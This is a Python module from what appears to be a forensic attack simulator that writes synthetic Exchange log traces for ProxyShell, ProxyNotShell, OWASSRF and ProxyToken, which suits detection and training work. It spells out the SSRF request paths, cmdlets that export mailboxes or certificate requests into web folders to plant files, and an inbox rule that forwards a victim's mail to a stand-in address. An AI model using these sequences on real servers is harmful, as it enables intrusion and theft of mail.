"""The later ways in: ProxyShell, ProxyNotShell and OWASSRF lead to Exchange's PowerShell, ProxyToken to a user's inbox rules.

References: traces PS, PN, OS and PT; github.com/CrowdStrike/OWASSRF for the PowerShell log.
"""

from __future__ import annotations

from datetime import timedelta

from exhume.simulator import samples
from exhume.simulator.attack.stage import Play, Stage, moments, text
from exhume.simulator.desk import DOMAIN, OWN_ADDRESS
from exhume.simulator.machine import INSTALLED, cmdlet, cmdlet_row, ecp_command, rps_cells
from exhume.simulator.scenario import Step

_JSON = "/autodiscover/autodiscover.json"
_REPLICATION = f"{INSTALLED}\\Bin\\MSExchangeMailboxReplication.exe"


def json_ssrf(stage: Stage, step: Step) -> None:
    """The path confusion of ProxyShell and, with a log-on, of ProxyNotShell: ``autodiscover.json?@x/<page>``."""
    page = text(step, "page", "/mapi/nspi/")
    user = str(step.given.get("user", ""))
    query = f"@{DOMAIN}{page}?{text(step, 'query', '')}&Email=autodiscover/autodiscover.json%3F@{DOMAIN}"
    _powershell(stage, step, "Autodiscover", _JSON, query, page, user)


def owa_ssrf(stage: Stage, step: Step) -> None:
    """OWASSRF: ``/owa/<address>/powershell``."""
    user = str(step.given.get("user", ""))
    address = str(step.given.get("mailbox", f"mastermailbox@{DOMAIN}"))
    stage.mailbox(address, step)
    _powershell(stage, step, "Owa", f"/owa/{address}/powershell", "", "/powershell", user)


def _powershell(stage: Stage, step: Step, protocol: str, stem: str, query: str, page: str, user: str) -> None:
    desk, agent = stage.desk, stage.agent(step)
    status = int(step.given.get("status", 200))
    method = "POST" if "powershell" in page.lower() else str(step.given.get("method", "GET"))
    for moment in moments(step):
        request_id = desk.request(
            protocol, moment, method=method, stem=stem, query=query, user=user, address=stage.address(step), agent=agent,
            status=status,
            proxy={"ProxyAction": "Proxy" if status == 200 else "", "BackEndStatus": status if status == 200 else "",
                   "TargetServer": desk.host if status == 200 else "", "RoutingHint": "ServerInfo" if status == 200 else ""},
        )  # fmt: skip
        if status != 200:
            continue
        desk.iis(2, moment, {
            "cs-method": method, "cs-uri-stem": page.rstrip("/"), "s-port": 444, "cs-username": desk.machine,
            "c-ip": OWN_ADDRESS, "cs(User-Agent)": agent, "sc-status": 200,
        })  # fmt: skip
        if "powershell" in page.lower():
            client = str(step.given.get("client", "Microsoft WinRM Client"))
            whose = user or str(step.given.get("as", "CONTOSO\\Administrator"))
            cells = rps_cells(desk, moment, request_id, whose, f"{stage.address(step)} {OWN_ADDRESS}", client)
            desk.csv("rps-http", "rps-http", moment, cells)


def run_cmdlet(stage: Stage, step: Step) -> None:
    """A cmdlet of Exchange's, in the event log and in PowerShell's own."""
    _cmdlet(stage, step, text(step, "cmdlet"), text(step, "parameters"))


def _cmdlet(stage: Stage, step: Step, name: str, parameters: str) -> None:
    caller = str(step.given.get("caller", f"{DOMAIN}/Users/Administrator"))
    cmdlet(stage.desk, step.at, name, parameters, caller)
    cmdlet_row(stage.desk, step.at, name, parameters, str(step.given.get("as", "CONTOSO\\Administrator")), "ManagementShell")


def role_assignment(stage: Stage, step: Step) -> None:
    """The right to export mailboxes."""
    _cmdlet(stage, step, "New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "Administrator"')


def mailbox_export(stage: Stage, step: Step) -> None:
    """A mailbox whose draft holds the page is exported into a web folder; the export service writes the file."""
    path = text(step, "file")
    share = "\\\\127.0.0.1\\C$\\" + path.replace("/", "\\")
    parameters = (
        f'-Mailbox "administrator@{DOMAIN}" -IncludeFolders "#Drafts#" -ContentFilter "subject -eq \'a\'" -FilePath "{share}"'
    )
    stage.mailbox(f"administrator@{DOMAIN}", step)
    _cmdlet(stage, step, "New-MailboxExportRequest", parameters)
    stage.wrote(step, path, samples.exported_mailbox(), step.at + timedelta(seconds=20), _REPLICATION)


def export_removed(stage: Stage, step: Step) -> None:
    """The request is taken off the list."""
    _cmdlet(stage, step, "Remove-MailboxExportRequest", '-Identity "Administrator\\MailboxExport" -Confirm "False"')


def certificate_request(stage: Stage, step: Step) -> None:
    """A certificate request, whose subject holds the page, is written into a web folder."""
    path = text(step, "file")
    share = "\\\\127.0.0.1\\C$\\" + path.replace("/", "\\")
    parameters = f'-GenerateRequest "True" -BinaryEncoded "True" -SubjectName "CN=sample" -RequestFile "{share}"'
    _cmdlet(stage, step, "New-ExchangeCertificate", parameters)
    stage.wrote(
        step, path, samples.certificate_request(), step.at + timedelta(seconds=1), "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    )


def proxytoken(stage: Stage, step: Step) -> None:
    """ProxyToken: a rule is made in somebody's inbox without a log-on. The first call is answered 500 and gives the canary."""
    desk = stage.desk
    victim = str(step.given.get("mailbox", f"gleroy@{DOMAIN}"))
    status = int(step.given.get("status", 200))
    stage.mailbox(victim, step)
    page = f"/ecp/{victim}/RulesEditor/InboxRules.svc/NewObject"
    query = f"msExchEcpCanary={stage.canary(step)}" if status == 200 else ""
    desk.request(
        "Ecp", step.at, method="POST", stem=page, query=query, address=stage.address(step), agent=stage.agent(step),
        status=status, back=page.replace(f"/{victim}", ""), back_user=desk.machine, proxy={"AnchorMailbox": f"SMTP:{victim}"},
    )  # fmt: skip
    if status != 200:
        return
    target = str(step.given.get("forward", "drop@example.test"))
    ecp_command(
        desk, step.at, f"New-InboxRule.Name='sync'.ForwardTo='{target}'.Mailbox='{victim}'.StopProcessingRules=$false", page
    )
    caller = f"{DOMAIN}/Computers/{desk.server}$"
    cmdlet(desk, step.at, "New-InboxRule", f'-Name "sync" -ForwardTo "{target}" -Mailbox "{victim}"', caller)


STEPS: dict[str, Play] = {
    "json-ssrf": json_ssrf,
    "owa-ssrf": owa_ssrf,
    "cmdlet": run_cmdlet,
    "role-assignment": role_assignment,
    "mailbox-export": mailbox_export,
    "export-removed": export_removed,
    "cert-request": certificate_request,
    "proxytoken": proxytoken,
}
